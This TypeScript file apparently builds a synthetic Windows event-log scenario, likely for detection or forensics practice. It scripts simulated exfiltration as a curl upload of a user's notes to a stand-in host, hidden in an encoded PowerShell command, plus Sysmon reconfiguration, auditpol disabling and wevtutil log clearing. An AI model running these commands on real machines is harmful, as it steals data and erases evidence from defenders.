import { auditPolicyChanged, logCleared, securityLogCleared } from '../log_event';
import type { Machine } from '../machine';
import { PowerShellEngine } from '../powershell_event';
import { PROGRAMS } from '../program';
import type { Program } from '../program';
import { nameQueried, networkConnected } from '../sysmon_activity';
import { sysmonReconfigured } from '../sysmon_event';
import {
  copying,
  egress,
  ingress,
  office,
  pythonScript,
  remoteClipboard,
  rstudio,
  scriptsInAConsole,
} from './analyst';
import type { Clock } from './clock';
import { STORY, pairOf } from './facts';
import type { StoryFacts } from './facts';

const UPLOAD = 'curl.exe -T C:\\Users\\ben\\notes.txt https://files.example.org/in/';
const HIDDEN_COMMAND = `cmd /c "whoami & ${UPLOAD}"`;

/** PowerShell takes an encoded command as base64 of UTF-16. */
const encoded = (command: string) => Buffer.from(command, 'utf16le').toString('base64');

function powershellChain(machine: Machine, clock: Clock): Pick<StoryFacts, 'encodedPowershell' | 'curl'> {
  const at = clock('12:31');
  const outer = machine.runInConsole(PROGRAMS.powershell, { at, parent: machine.explorer }, 400);
  const engine = new PowerShellEngine(outer, machine.random);
  const script = encoded(HIDDEN_COMMAND);
  const inner = machine.run(
    PROGRAMS.powershell,
    { at: at + 60_000, parent: outer, commandLine: `powershell.exe -NoProfile -EncodedCommand ${script}` },
    25
  );
  const innerEngine = new PowerShellEngine(inner, machine.random);
  const cmd = machine.run(PROGRAMS.cmd, { at: at + 61_500, parent: inner, commandLine: HIDDEN_COMMAND }, 20);
  machine.run(PROGRAMS.whoami, { at: at + 61_800, parent: cmd, commandLine: 'whoami' }, 1);
  const curl = machine.run(PROGRAMS.curl, { at: at + 63_000, parent: cmd, commandLine: UPLOAD }, 15);
  machine.events.push(
    ...engine.starts(at + 300),
    engine.runs(at + 59_800, 'powershell.exe -NoProfile -EncodedCommand', 'Out-Default'),
    engine.stops(at + 399_000),
    ...innerEngine.starts(at + 60_300),
    innerEngine.runs(at + 61_400, HIDDEN_COMMAND, 'Out-Default'),
    innerEngine.stops(at + 84_900),
    nameQueried(curl, at + 63_100, STORY.network.name)
  );
  return { encodedPowershell: pairOf(inner), curl: pairOf(curl) };
}

/**
 * Sysmon is told to leave the analyst's programs out, a Python runs that only Windows' own audit sees, then
 * that audit is switched off and the logs are cleared.
 */
function tampering(machine: Machine, clock: Clock): Pick<StoryFacts, 'unseen' | 'securityLogClearedAt'> {
  const at = clock('12:52');
  const { environment } = machine;
  const quiet = 'C:\\Users\\ben\\quiet.xml';
  const shell = machine.runInConsole(PROGRAMS.powershell, { at, parent: machine.explorer }, 300);
  const run = (program: Program, after: number, commandLine: string) =>
    machine.run(program, { at: at + after, parent: shell, commandLine }, 1);

  run(PROGRAMS.sysmon, 20_000, `Sysmon64.exe -c ${quiet}`);
  let unseen = shell;
  machine.unseenBySysmon(() => {
    const script = ingress(machine, 'extract.py');
    const python = machine.run(
      PROGRAMS.python,
      { at: at + 60_000, parent: shell, commandLine: `python ${script}` },
      40
    );
    const commandLine = 'C:\\Windows\\system32\\cmd.exe /c dir D:\\data';
    unseen = machine.run(PROGRAMS.cmd, { at: at + 64_000, parent: python, commandLine }, 2);
  });
  const auditpol = run(
    PROGRAMS.auditpol,
    150_000,
    'auditpol.exe /set /subcategory:"Process Creation" /success:disable'
  );
  const security = run(PROGRAMS.wevtutil, 165_000, 'wevtutil.exe cl Security');
  const system = run(PROGRAMS.wevtutil, 178_000, 'wevtutil.exe cl "Windows PowerShell"');
  run(PROGRAMS.sysmon, 240_000, 'Sysmon64.exe -c C:\\Windows\\sysmon.xml');

  const clearedAt = security.startedAt + 180;
  machine.events.push(
    sysmonReconfigured(environment, at + 20_600, quiet),
    auditPolicyChanged(auditpol, auditpol.startedAt + 90),
    securityLogCleared(security, clearedAt),
    logCleared(environment, system, system.startedAt + 170, 'Windows PowerShell'),
    sysmonReconfigured(environment, at + 240_600, 'C:\\Windows\\sysmon.xml')
  );
  return {
    unseen: { host: environment.host, parentPid: unseen.parent?.pid ?? 0, childPid: unseen.pid },
    securityLogClearedAt: new Date(clearedAt).toISOString(),
  };
}

function pythonAstray(machine: Machine, clock: Clock): Pick<StoryFacts, 'downloads' | 'network'> {
  const at = clock('15:20');
  const shell = machine.runInConsole(PROGRAMS.cmd, { at: at - 30_000, parent: machine.explorer }, 1_200);
  const downloads = pythonScript(machine, at, shell, STORY.downloads.script, 40);
  const network = pythonScript(machine, at + 300_000, shell, ingress(machine, 'send_summary.py'), 90);
  const { name, address, port } = STORY.network;
  machine.events.push(
    nameQueried(network, network.startedAt + 1_500, name, address),
    networkConnected(network, network.startedAt + 1_700, { address, port, name, sourcePort: 50_777 }),
    networkConnected(network, network.startedAt + 23_000, { address, port, name, sourcePort: 50_790 })
  );
  return { downloads: pairOf(downloads), network: pairOf(network) };
}

type LungFacts = Pick<
  StoryFacts,
  'encodedPowershell' | 'curl' | 'unseen' | 'securityLogClearedAt' | 'downloads' | 'network'
>;

/** research-2: R all day, a chain of PowerShell at noon and the logs cleared after it. */
export function lungCancer(machine: Machine, clock: Clock): LungFacts {
  copying(machine, remoteClipboard(machine, clock), clock);
  rstudio(machine, clock, '08:15', '17:45');
  scriptsInAConsole(machine, clock, '09:30', '12:00');
  office(machine, clock, '10:00', '11:30', 'C:\\Users\\ben\\Documents\\protocol.docx');
  office(machine, clock, '16:10', '17:00', egress(machine, 'counts.xlsx'));
  return {
    ...powershellChain(machine, clock),
    ...tampering(machine, clock),
    ...pythonAstray(machine, clock),
  };
}
